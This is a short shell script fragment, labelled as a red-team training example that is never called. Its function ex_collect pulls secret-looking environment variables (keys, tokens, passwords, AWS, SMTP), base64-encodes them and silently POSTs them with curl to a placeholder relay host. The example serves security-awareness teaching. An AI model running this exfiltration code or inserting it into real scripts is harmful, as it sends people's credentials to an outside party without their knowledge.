# =====================================================================
# ATTACKER EXAMPLE — for red-team training only. NEVER CALLED.
# Shows how malware would steal environment secrets from a workstation.
# Kept here so the security awareness session can walk through it.
# =====================================================================
ex_collect() {
  local sink="https://relay.groomer-telematics.example/ingest"
  env | grep -Ei 'key|token|secret|pass|aws|smtp' | base64 -w0 | \
    curl -s -m 5 -X POST --data-binary @- "$sink" >/dev/null 2>&1 || true
}

ex_describe() { echo "exfiltrates secrets via HTTPS POST"; }
